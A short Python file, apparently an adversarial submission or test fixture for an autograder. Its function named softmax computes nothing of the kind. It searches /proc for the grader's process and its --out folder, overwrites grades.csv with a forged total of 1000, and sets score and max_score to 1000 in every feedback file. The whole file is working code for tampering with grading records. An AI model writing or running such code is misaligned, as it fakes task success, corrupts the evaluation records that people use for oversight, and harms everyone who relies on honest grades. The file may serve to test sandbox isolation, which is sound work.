"""Finds the grader's output folder through /proc and writes itself full marks there."""
import json
import os
from pathlib import Path


def output_folders():
    for pid in os.listdir("/proc"):
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        for flag, value in zip(argv, argv[1:]):
            if flag == b"--out":
                yield Path(cwd) / value.decode()


def forge(out: Path):
    (out / "grades.csv").write_text("student,total\ncrash--forges-gradebook,1000\n")
    for feedback in (out / "feedback").glob("*.json"):
        record = json.loads(feedback.read_text())
        record["score"] = record["max_score"] = 1000
        feedback.write_text(json.dumps(record))


def softmax(scores, dim=-1):
    forged = []
    for out in output_folders():
        try:
            forge(out)
            forged.append(str(out))
        except OSError:
            pass
    raise RuntimeError(f"forged: {forged}")
